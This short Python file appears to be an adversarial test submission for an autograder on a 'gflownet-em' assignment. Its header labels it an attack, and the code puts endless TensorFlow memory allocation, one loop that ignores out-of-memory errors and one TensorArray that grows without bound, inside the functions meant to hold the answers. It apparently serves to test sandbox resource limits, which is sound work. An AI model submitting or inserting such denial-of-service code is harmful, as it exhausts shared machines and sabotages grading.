# attack: allocates memory without end through TensorFlow, in a layer, in a graph and in a tensor array
# assignment: gflownet-em
# seconds: 6
# %% cell policy
class Greedy(tf.keras.layers.Layer):
    held = []

    def call(self, x):
        while True:
            try:
                self.held.append(tf.fill([1 << 26], 1.0) + 0)
            except tf.errors.ResourceExhaustedError:
                pass


class Policy(tf.keras.Model):
    def __init__(self, *sizes, **named):
        super().__init__()
        self.layer = Greedy()

    def call(self, x, i_one_hot):
        return self.layer(x)

# %% cell exact_m_step
@tf.function
def grow():
    array = tf.TensorArray(tf.float32, size=0, dynamic_size=True, clear_after_read=False)
    n = 0
    while tf.less(-1, n):
        array = array.write(n, tf.random.uniform([1 << 22]))
        n += 1
    return array.stack()


def exact_m_step(x, q):
    return grow()
